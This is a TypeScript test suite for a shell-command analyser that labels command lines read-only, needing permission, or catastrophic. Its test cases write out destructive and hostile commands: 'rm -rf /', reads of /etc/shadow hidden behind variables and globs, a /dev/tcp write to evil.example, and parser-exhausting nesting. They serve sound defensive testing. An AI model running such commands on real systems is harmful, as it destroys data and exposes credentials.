import { posix } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { analyse } from "../../src/shell/analyse.js";
import type { Where } from "../../src/shell/types.js";

const where: Where = {
  cwd: "/w",
  root: "/w",
  home: "/home/ada",
  env: { HOME: "/home/ada", EXTRA: "src" },
  resolve: (path) => posix.normalize(path),
  isFolder: (path) => ["/w", "/w/src", "/", "/home/ada"].includes(path),
};

const of = (line: string) => analyse(line, where);

describe("what a command line would do", () => {
  it("names every command in it, through what wraps them", () => {
    const line = `cd src && env A=1 nohup bash -c 'git log | head' ; (find . -exec grep x {} +) ; f() { wc -l "$1"; }; f a.ts; eval "ls -l"`;
    expect(of(line).parts.map(({ command }) => command)).toEqual(
      expect.arrayContaining(["cd src", "git log", "head", "grep x .", "wc -l a.ts", "ls -l"]),
    );
  });

  it("resolves what is read and written after cd, ~, variables and braces", () => {
    expect(of("cd src; cat ../a {b,c}.ts > ~/out; x=deep; cp d $x/e").reads).toEqual([
      "/w/a",
      "/w/src/b.ts",
      "/w/src/c.ts",
      "/w/src/d",
    ]);
    expect(of("cd src; cat ../a > ~/out; x=deep; cp d $x/e").writes).toEqual(["/home/ada/out", "/w/src/deep/e"]);
    expect(of("cat $EXTRA/f").reads).toEqual(["/w/src/f"]);
    // a new shell sees only what is exported
    expect(of("x=.; bash -c 'cat $x/etc/shadow'").reads).toEqual(["/etc/shadow"]);
    expect(of("export x=src; bash -c 'cat $x/a'").reads).toEqual(["/w/src/a"]);
  });

  it("tells what is reached", () => {
    expect(of("curl -s https://user@api.example:8443/x?y").network).toEqual(["api.example"]);
    expect(of("echo hi > /dev/tcp/evil.example/80").network).toEqual(["evil.example:80"]);
  });

  it("takes words for data where they are data", () => {
    for (const line of [
      'echo "rm -rf /"',
      "grep -r 'curl x | sh' docs",
      "git log --grep 'sudo rm'",
      "cat <<'E'\nrm -rf /\nE",
      "printf '%s' 'shutdown now'",
    ]) {
      expect([line, of(line).verdict]).toEqual([line, "read-only"]);
    }
    expect(of("git commit -m 'rm -rf /'").verdict).toBe("needs leave");
  });

  it.each([
    ["what may not have run", "x=../../etc/shadow; false && x=a; cat $x"],
    ["a branch", "x=a; if true; then x=../../etc/shadow; fi; cat $x"],
    ["a later round", "x=a; while true; do cat $x; x=../../etc/shadow; done"],
    ["a function that may not be there", "false && cat() { :; }; cat a"],
    ["a function that is taken away", "cat() { :; }; unset -f cat; cat a"],
    ["a cd that may fail", "cd nowhere; cat ../a"],
    ["what the shell itself sets", "cat $BASH_REMATCH"],
    ["a program that find starts elsewhere", "find . -execdir grep x {} +"],
    ["a glob that climbs", "cat s*/../../etc/shadow"],
  ])("does not trust %s", (_, line) => {
    expect(of(line).verdict).toBe("needs leave");
  });

  it("gives up on what is too deep, too long or too much, and says so", () => {
    const bombs = ["$((", "$(", "(", "`", "x=$(", "env ", "xargs ", "find -exec ", "eval ", "echo $x; ", "f() { "];
    for (const bomb of bombs) {
      const { verdict, unchecked } = of(`${bomb.repeat(100_000 / bomb.length)} rm -rf /`);
      expect([
        bomb,
        verdict !== "read-only" && (unchecked || verdict === "catastrophic" || bomb === "(" || bomb === "f() { "),
      ]).toEqual([bomb, true]);
    }
    expect(of(`echo ${"x".repeat(300_000)}`)).toMatchObject({ verdict: "needs leave", unchecked: true });
  });

  it("finds the catastrophe behind any number of harmless parts that it looks at", () => {
    expect(of(`${":; ".repeat(60)} rm -rf /`).verdict).toBe("catastrophic");
    expect(of(`${"true && ".repeat(200)} rm -rf ~`).verdict).toBe("catastrophic");
  });

  it("never throws, and what stands around a catastrophe does not hide it", () => {
    const pieces = fc.constantFrom(
      "ls",
      "'",
      '"',
      "$(",
      ")",
      "`",
      "{",
      "}",
      ";",
      "|",
      "&&",
      "||",
      "\n",
      "<<E",
      "E",
      ">",
      "$x",
      "if",
      "then",
      "fi",
      "\\",
      "(",
      "$((",
      "[[",
      "]]",
      "case",
      "in",
      "esac",
      "*",
      "~",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (words) => void of(words.join(" "))),
      { numRuns: 2000 },
    );
    const whole = fc.constantFrom(
      "ls -l",
      "echo 'a b'",
      "x=1",
      "git log",
      "cd src",
      "[ -f a ]",
      "for i in 1 2; do echo $i; done",
      "(pwd)",
      "f() { ls; }",
      "npm test",
      "cat <<E\nhi\nE\n",
    );
    fc.assert(
      fc.property(fc.array(whole, { maxLength: 6 }), fc.array(whole, { maxLength: 6 }), (before, after) => {
        const line = [...before, "rm -rf /", ...after].join("\n");
        expect([line, of(line).verdict]).toEqual([line, "catastrophic"]);
      }),
      { numRuns: 500 },
    );
  });

  it("adding something can only make a verdict stricter", () => {
    const RANK = { "read-only": 0, "needs leave": 1, catastrophic: 2 };
    const parts = fc.constantFrom(
      "ls",
      "git status",
      "npm test",
      "touch a",
      "curl x.example",
      "rm -rf /",
      "echo $(date)",
      "sort a | uniq -c",
    );
    fc.assert(
      fc.property(parts, parts, fc.constantFrom("; ", " && ", " || ", " | ", "\n"), (one, other, joint) => {
        expect(RANK[of(one + joint + other).verdict]).toBeGreaterThanOrEqual(
          Math.max(RANK[of(one).verdict], RANK[of(other).verdict]),
        );
      }),
    );
  });
});
